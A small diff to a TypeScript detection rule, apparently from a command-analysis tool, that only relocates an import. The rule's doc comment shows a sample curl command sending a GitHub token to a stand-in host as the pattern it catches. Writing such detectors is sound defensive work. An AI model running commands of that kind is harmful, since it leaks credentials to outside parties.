@@ -1,4 +1,5 @@
 import { effectsOf } from "../catalog/effects.ts";
+import { addressesFor } from "../catalog/token-issuers.ts";
 import { matched } from "../effects/match.ts";
 import { type Analysis, type Arg, type Invocation, UNKNOWN } from "../model/invocation.ts";
 import type { Rule } from "../model/rule.ts";
@@ -6,7 +7,6 @@ import { namesSecret } from "../secrets/secret-name.ts";
 import { readAddress } from "../text/address.ts";
 import { isLocalHost } from "../text/local-host.ts";
 import { namesIn } from "./shown-secrets.ts";
-import { addressesFor } from "./token-issuers.ts";
 
 /** Tokens of a known service that go to another one: `curl -H "A: $GITHUB_TOKEN" https://x.example`. */
 export const sendToken: Rule = {
